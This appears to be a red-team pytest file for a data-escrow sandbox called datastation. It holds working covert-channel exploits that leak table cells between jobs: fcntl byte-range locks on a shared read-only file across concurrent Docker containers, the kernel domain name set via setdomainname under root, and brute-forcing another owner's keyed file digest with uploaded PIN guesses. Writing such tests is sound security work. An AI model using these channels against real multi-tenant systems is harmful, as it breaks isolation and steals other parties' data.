"""Round 6 of the red team: the no-trust Docker sandbox (two containers at once, what one leaves
for the next, the result frame), the fixes of round 5 (withdrawing consent between attempts,
keyed digests in data listings, the full-trust child's seccomp) and the review page. Attacks
played from the documentation only, through the `Escrow` facade (the harness `World`), `dsc` and
`dsc serve`. A test that shows a real hole is `xfail(strict=True, reason="HOLE: ...")`."""

import threading
import time

import pytest

from rt_support import SECRET_CSV, SECRET_TEXT, Scenario, two_jobs_dsc


def _outbox_text(sc, who: str) -> str:
    """Everything released to `who`, opened with its own key when sealed (no trust)."""
    from datastation.runtime.crypto.results import is_sealed, open_result

    d = sc.world.config.outbox_path / who
    out = []
    for p in sorted(d.rglob("*")) if d.is_dir() else ():
        if p.is_file():
            blob = p.read_bytes()
            out.append(open_result(sc.world.config, blob, who) if is_sealed(blob) else blob)
    return b"".join(out).decode("latin1")


def _run_together(w, first, second):
    """Execute `first` (the listener) and, half a second later, `second`, in two threads."""
    reports = {}
    t = threading.Thread(target=lambda: reports.setdefault("first", w.execute(first[0], first[1])))
    t.start()
    time.sleep(0.5)
    reports["second"] = w.execute(second[0], second[1])
    t.join(120)
    return reports


# -- 1. no trust: two containers at once, a lock on a file both mount from the host -------------

NT_LOCK_FUNCS = '''
import ctypes
import os
import time

import datastation.stdlib

NBITS = 64


class _Flock(ctypes.Structure):
    _fields_ = [("l_type", ctypes.c_short), ("l_whence", ctypes.c_short), ("l_start", ctypes.c_long),
                ("l_len", ctypes.c_long), ("l_pid", ctypes.c_int)]


def _shared_fd():
    libc = ctypes.CDLL(None, use_errno=True)
    path = os.path.join(os.path.dirname(datastation.stdlib.__file__), "types.py").encode()
    return libc, libc.open(path, 0)


def leak(t) -> int:
    """Returns the row count; meanwhile shows 8 bytes of a cell as POSIX read locks on byte
    ranges of one stdlib file (fcntl F_SETLK through the C library)."""
    libc, fd = _shared_fd()
    bits = int.from_bytes(str(t.iloc[0]["name"]).encode()[:8].ljust(8, b"\\0"), "big")
    for i in range(NBITS):
        if bits >> (NBITS - 1 - i) & 1:
            libc.fcntl(fd, 6, ctypes.byref(_Flock(0, 0, 1 + i, 1, 0)))  # F_SETLK, F_RDLCK
    libc.fcntl(fd, 6, ctypes.byref(_Flock(0, 0, 0, 1, 0)))  # the sync byte last
    time.sleep(8)
    return len(t)


def _locked(libc, fd, byte):
    f = _Flock(1, 0, byte, 1, 0)  # would a write lock on `byte` conflict?
    libc.fcntl(fd, 5, ctypes.byref(f))  # F_GETLK
    return f.l_type != 2  # F_UNLCK: nobody holds it


def listen(d) -> str:
    """mallory's own contract on mallory's own data: waits for the signal, decodes it."""
    libc, fd = _shared_fd()
    deadline = time.time() + 60
    while time.time() < deadline:
        if _locked(libc, fd, 0):
            bits = 0
            for i in range(NBITS):
                bits = bits << 1 | _locked(libc, fd, 1 + i)
            return bits.to_bytes(8, "big").rstrip(b"\\0").decode("latin1")
        time.sleep(0.05)
    return "nothing"
'''

LOCK_DSC = two_jobs_dsc("leak", "listen")


@pytest.mark.docker
def test_no_trust_a_container_cannot_signal_data_to_a_concurrent_container_through_locks(tmp_path, no_trust_config):
    """H11 again, in no trust. Every container bind-mounts the same host folder (the escrow's
    `stdlib`, read-only) at /opt/datastation/datastation/stdlib: the same inodes in every
    container. mallory's `count_rows` over alice's table (released to alice only; alice approves
    and runs it) takes POSIX record locks (`fcntl(F_SETLK)`) through the C library (no audit hook sees it; Docker's
    default seccomp allows fcntl locks and a read-only mount does not stop a lock) on byte ranges of one
    of those files, one per bit of a cell. mallory's own contract `mine` (her own data: only she approves) runs at the
    same moment in another container and tests the locks with F_GETLK, releasing the bits to
    herself. Impact: any job leaks its inputs to any concurrent job of any proposer, which the
    single-use, no-network containers were meant to rule out."""
    sc = Scenario(tmp_path, {"f.py": NT_LOCK_FUNCS, "s.dsc": LOCK_DSC, "t.csv": SECRET_CSV, "d.csv": "x\n1\n"},
                  config_text=no_trust_config.read_text())
    try:
        w = sc.world
        victim = w.propose("count_rows", "mallory")
        w.approve(victim.id, "alice")
        spy = w.propose("mine", "mallory")
        w.approve(spy.id, "mallory")
        _run_together(w, (spy.id, "mallory"), (victim.id, "alice"))
        leaked = _outbox_text(sc, "mallory")
        assert SECRET_TEXT[:8] not in leaked, leaked
    finally:
        sc.close()


# -- 2. full trust, escrow run as root: the child keeps root's capabilities ----------------------

UTS_FUNCS = '''
import ctypes


def leave(t) -> int:
    """Returns the row count; leaves a cell in the machine's NIS domain name (setdomainname)."""
    libc = ctypes.CDLL(None, use_errno=True)
    cell = str(t.iloc[0]["name"]).encode()
    libc.setdomainname(cell, len(cell))
    return len(t)


def pick_up(d) -> str:
    """mallory's own contract, later: reads the domain name back (uname: no privilege needed)."""
    libc = ctypes.CDLL(None, use_errno=True)
    buf = ctypes.create_string_buffer(65)
    libc.getdomainname(buf, 65)
    return buf.value.decode("latin1")
'''

UTS_DSC = two_jobs_dsc("leave", "pick_up")


def test_a_later_job_cannot_read_what_an_earlier_job_left_in_the_machines_names(tmp_path):
    """The escrow runs as root (as on this machine, and in round 5's tests); nothing in the docs
    forbids it. Its full-trust child keeps root's capabilities (capget: all but CAP_SYS_RESOURCE)
    and its seccomp filter allows `sethostname`/`setdomainname` (also `swapoff`, `acct`, negative
    nice, `setuid`...). mallory's `count_rows` over alice's table (released to alice only; alice
    approves and runs it) writes a cell into the machine's domain name through the C library;
    mallory's own later contract `mine` (her data, her approval) reads it back with
    `getdomainname()` and releases it to herself. Impact: any job leaves data for any later job
    (and every process of the machine sees it; `sethostname` renames the machine itself), the H9/
    H12 channel through kernel state the filter was meant to close."""
    import os

    if os.geteuid() != 0:
        pytest.skip("the attack needs an escrow running as root (the machine's names need CAP_SYS_ADMIN)")
    before = open("/proc/sys/kernel/domainname").read().strip()
    sc = Scenario(tmp_path, {"f.py": UTS_FUNCS, "s.dsc": UTS_DSC, "t.csv": SECRET_CSV, "d.csv": "x\n1\n"})
    try:
        w = sc.world
        victim = w.propose("count_rows", "mallory")
        w.approve(victim.id, "alice")
        assert w.execute(victim.id, "alice").status.value in ("executed", "error", "short_circuit")
        spy = w.propose("mine", "mallory")
        w.approve(spy.id, "mallory")
        w.execute(spy.id, "mallory")
        leaked = _outbox_text(sc, "mallory")
        assert SECRET_TEXT not in leaked, leaked
    finally:
        sc.close()
        with open("/proc/sys/kernel/domainname", "w") as f:
            f.write(before)


# -- 3. the keyed digest in `dsc data list`: the same for the same contents, whoever owns them ---

PIN_DSC = '''agent bob
agent mallory
data bob.p csv "p.csv"
'''


def test_a_party_cannot_test_guesses_of_another_owners_file_against_its_keyed_digest(tmp_path):
    """Round 5 (H15) replaced the plaintext sha256 in `dsc data list` with a keyed digest
    (HMAC under the escrow's secret) so that 'a party cannot test guesses of a small file
    against it'. But the key is the same for every owner and the digest covers the contents
    only: mallory uploads her guesses as her own data elements (`dsc data add`, one per
    candidate PIN: 10,000 cheap requests) and reads `dsc data list`, which shows bob's digest
    beside hers; the one equal to bob's is his PIN. (The list also shows bob's file size to
    everyone, which security.md reserves for the owner.) The test plays a few candidates."""
    sc = Scenario(tmp_path, {"s.dsc": PIN_DSC, "p.csv": "pin\n4821\n"})
    try:
        guesses = [4000 + i for i in range(0, 1000, 37)] + [4821]
        for v in guesses:
            sc.world.data(f"mallory.g{v}", f"pin\n{v}\n".encode())
        code, out = sc.cli("data", "list", "--format", "json")
        assert code == 0, out
        rows = {r["key"]: r for r in __import__("json").loads(out)}
        bob = rows["bob.p"]
        found = [v for v in guesses if rows[f"mallory.g{v}"]["digest"] == bob.get("digest")]
        assert found == [], found
    finally:
        sc.close()
